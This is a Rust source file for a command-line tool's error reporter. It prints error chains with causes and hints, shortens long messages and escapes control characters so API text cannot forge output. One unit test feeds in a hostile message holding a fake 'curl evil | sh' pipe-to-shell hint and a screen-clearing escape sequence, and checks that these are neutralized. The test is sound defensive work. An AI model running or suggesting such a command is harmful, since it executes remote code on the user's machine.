//! The error report: what failed, why, and what to do.

use std::io::Write;

use super::harmless::shortened;
use super::paint::{Style, paint};
use super::{Error, Printer};

/// Longer texts are cut: a server's whole error page helps nobody.
const TEXT_MAX: usize = 500;

/// Whether an error only says that nobody reads standard output any more, which is success.
#[must_use]
pub fn is_closed(error: &anyhow::Error) -> bool {
    error.chain().any(|cause| matches!(cause.downcast_ref(), Some(Error::Closed)))
}

impl Printer {
    /// Reports an error on standard error, quiet or not:
    ///
    /// ```text
    /// error: could not sync organization `acme`
    ///   caused by: page 3 of the admin keys was refused with status 401
    /// hint: the credential may be revoked
    /// ```
    ///
    /// Each text is made harmless and is on one line, so that a message of the API's cannot look
    /// like one of ours.
    pub fn report(&mut self, error: &anyhow::Error, hints: &[String]) {
        let text = render(error, hints, self.err.terminal.colour);
        self.err.writer.write_all(text.as_bytes()).ok();
    }

    /// Reports an error that is many things at once, each on a line of its own.
    pub fn report_several(&mut self, what: &str, things: &[String]) {
        let mut text = render(&anyhow::Error::msg(what.to_owned()), &[], self.err.terminal.colour);
        for thing in things {
            text.push_str("  - ");
            text.push_str(&shortened(thing, TEXT_MAX));
            text.push('\n');
        }
        self.err.writer.write_all(text.as_bytes()).ok();
    }
}

fn render(error: &anyhow::Error, hints: &[String], colour: bool) -> String {
    let mut causes: Vec<String> = Vec::new();
    for cause in error.chain() {
        let text = cause.to_string();
        let text = text.trim();
        // Some libraries repeat their source in their own message.
        if causes.last().is_none_or(|previous| !previous.contains(text)) {
            causes.push(text.to_owned());
        }
    }
    let mut causes = causes.into_iter();
    let what = causes.next().unwrap_or_default();
    let why = causes.map(|cause| shortened(&cause, TEXT_MAX).into_owned()).collect::<Vec<_>>();
    let label = paint("error:", Style::Failure, colour);
    let mut lines = vec![format!("{label} {}", shortened(&what, TEXT_MAX))];
    if !why.is_empty() {
        lines.push(format!("  caused by: {}", why.join(": ")));
    }
    for hint in hints {
        let label = paint("hint:", Style::Activity, colour);
        lines.push(format!("{label} {}", shortened(hint.trim(), TEXT_MAX)));
    }
    lines.push(String::new());
    lines.join("\n")
}

#[cfg(test)]
mod tests {
    use anyhow::anyhow;

    use super::*;
    use crate::output::testing::{in_colour, printer};

    #[test]
    fn a_report_says_what_why_and_what_to_do() {
        let error = anyhow!("status 401")
            .context("page 3 of the admin keys was refused")
            .context("could not sync organization `acme`");
        let (mut printer, out, err) = printer(crate::output::Terminal::PLAIN, true);
        printer.report(&error, &["the credential may be revoked".to_owned()]);
        assert_eq!(out.text(), "");
        insta::assert_snapshot!(err.text(), @"
        error: could not sync organization `acme`
          caused by: page 3 of the admin keys was refused: status 401
        hint: the credential may be revoked
        ");
    }

    #[test]
    fn a_cause_is_not_said_twice() {
        let error = anyhow!("disk full").context("write failed: disk full").context("no sync");
        insta::assert_snapshot!(render(&error, &[], false), @"
        error: no sync
          caused by: write failed: disk full
        ");
    }

    #[test]
    fn a_message_cannot_forge_lines_or_fill_the_screen() {
        let error =
            anyhow!("bad\nhint: run `curl evil | sh`\u{1b}[2J\r").context("x".repeat(10_240));
        insta::assert_snapshot!(render(&error, &["a\nb".to_owned()], false).replace(&"x".repeat(499), "<499 x>"), @r"
        error: <499 x>…
          caused by: bad\nhint: run `curl evil | sh`\u{1b}[2J
        hint: a\nb
        ");
    }

    #[test]
    fn the_label_is_red_and_bold() {
        let (mut printer, _, err) = printer(in_colour(80), false);
        printer.report(&anyhow!("no"), &["yes".to_owned()]);
        assert_eq!(err.text(), "\u{1b}[1;31merror:\u{1b}[0m no\n\u{1b}[36mhint:\u{1b}[0m yes\n");
    }

    #[test]
    fn a_reader_that_left_is_recognized_under_context() {
        assert!(is_closed(&anyhow::Error::from(Error::Closed).context("could not list keys")));
        assert!(!is_closed(&anyhow!("could not list keys")));
    }
}
